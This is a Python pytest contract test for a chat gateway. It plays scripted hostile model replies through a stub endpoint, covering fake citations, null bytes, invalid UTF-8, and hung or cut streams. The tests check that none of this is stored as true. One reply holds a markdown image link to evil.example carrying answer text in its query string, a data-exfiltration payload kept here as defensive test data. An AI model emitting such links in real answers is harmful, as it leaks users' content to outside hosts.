"""Chats over the real generator, whose model says whatever it likes: what is kept is true, and every stream ends once."""

from __future__ import annotations

from collections.abc import AsyncIterator, Mapping
from dataclasses import dataclass

import httpx
import pytest

from gateway.server import serve
from gateway.settings import GatewaySettings
from generator.server import serve as serve_generator
from generator.settings import GeneratorSettings
from tests.contract.gateway.back_services import World
from tests.contract.gateway.conftest import OPERATOR_KEY
from tests.contract.gateway.event_reading import all_events
from tests.contract.gateway.test_search import fill
from tests.contract.generator.endpoint import Endpoint, Reply, delta, ending, running_endpoint

GENERATOR = {
    "LISTEN": "127.0.0.1:0",
    "OPENAI__MODEL": "tiny",
    "OPENAI__IDLE_TIMEOUT_SECONDS": "1",
    "OPENAI__FIRST_TOKEN_TIMEOUT_SECONDS": "1",
}
END = ending("stop", None)
NOT_UTF8 = b'data: {"choices": [{"index": 0, "delta": {"content": "Te\xff\xfext"}, "finish_reason": null}]}\n\n'
# What the model says, and in which state the answer is kept; empty: whichever the generator takes it for.
REPLIES: Mapping[str, tuple[Reply, str]] = {
    "cites what it was not given": (Reply([delta("Text 1 [2]. Secret [9][0][99999999999]."), *END]), "COMPLETE"),
    "cites within words": (Reply([delta("Te["), delta("2]x"), delta("t [1"), delta("] and [3"), *END]), "COMPLETE"),
    "writes what no database keeps": (Reply([delta("Text\0 1 [2]."), *END]), "COMPLETE"),
    "sends an image elsewhere": (Reply([delta("Text 1 [2]. ![x](https://evil.example/?q=Text)"), *END]), "COMPLETE"),
    "sends what is no text": (Reply([delta("Text "), NOT_UTF8, *END]), ""),
    "hangs within its answer": (Reply([delta("Text 1 [2]")], then="hang"), "FAILED"),
    "dies within its answer": (Reply([delta("Text 1 [2]")], then="cut"), "FAILED"),
}


@dataclass
class Model:
    """A model behind an endpoint, and a chat in which it answers."""

    client: httpx.AsyncClient
    endpoint: Endpoint
    chat: str


@pytest.fixture
async def model(settings: GatewaySettings, world: World, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Model]:
    fill(world, 3)
    async with running_endpoint() as endpoint:
        for name, value in {**GENERATOR, "OPENAI__BASE_URL": endpoint.base_url}.items():
            monkeypatch.setenv(f"LECTERN_GENERATOR_{name}", value)
        async with serve_generator(GeneratorSettings()) as generator:
            answered = settings.model_copy(update={"generator_target": f"127.0.0.1:{generator.port}"})
            headers = {"Authorization": f"Bearer {OPERATOR_KEY}"}
            async with serve(answered) as gateway, httpx.AsyncClient(base_url=gateway.url, headers=headers, timeout=60) as client:
                chat = (await client.post("/api/v1/chats", json={"title": "A title of its user's"})).json()["id"]
                yield Model(client, endpoint, f"/api/v1/chats/{chat}")


@pytest.mark.parametrize("case", REPLIES)
async def test_what_a_hostile_model_says_is_kept_only_as_far_as_it_is_true(model: Model, world: World, case: str) -> None:
    reply, state = REPLIES[case]
    model.endpoint.replies.append(reply)
    async with model.client.stream("POST", f"{model.chat}/messages", json={"text": "What is text?", "stream": True}) as response:
        got = await all_events(response)
    assert [name for name, _ in got if name in {"complete", "error"}] == [got[-1][0]]
    answer = (await model.client.get(f"{model.chat}/messages")).json()["items"][1]
    assert answer["state"] == (state or answer["state"])
    if answer["state"] == "COMPLETE":
        assert got[-1] == ("complete", answer)
    else:
        assert (got[-1][0], got[-1][1]["reason"]) == ("error", answer["reason"])
    for citation in answer["citations"]:
        assert citation["quote"]
        assert citation["quote"] in world.passages[citation["passage_id"]].text
        assert f"[{citation['marker']}]" in answer["text"]
    assert not any(untrue in answer["text"] for untrue in ("[9]", "[0]", "[99999999999]", "\0", "https://evil.example"))
